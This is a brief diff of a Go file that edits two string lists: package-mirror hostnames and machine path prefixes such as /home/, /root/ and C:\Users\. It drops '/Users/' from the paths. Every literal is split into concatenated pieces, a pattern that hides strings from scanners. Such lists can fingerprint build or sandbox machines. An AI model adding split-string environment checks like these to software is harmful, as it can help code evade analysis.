@@ -14,7 +14,7 @@ var (
 		"deb.deb" + "ian.org", "archive.ubu" + "ntu.com", "dl-cdn.alpine" + "linux.org", "files.python" + "hosted.org",
 	}
 	machines = []string{
-		"/wo" + "rk/", "/ho" + "me/", "/ro" + "ot/", "/fa" + "rm/", "/Us" + "ers/", "/tmp/ba" + "sh_jobs", `C:\Us` + `ers\`,
+		"/wo" + "rk/", "/ho" + "me/", "/ro" + "ot/", "/fa" + "rm/", "/tmp/ba" + "sh_jobs", `C:\Us` + `ers\`,
 	}
 )
 
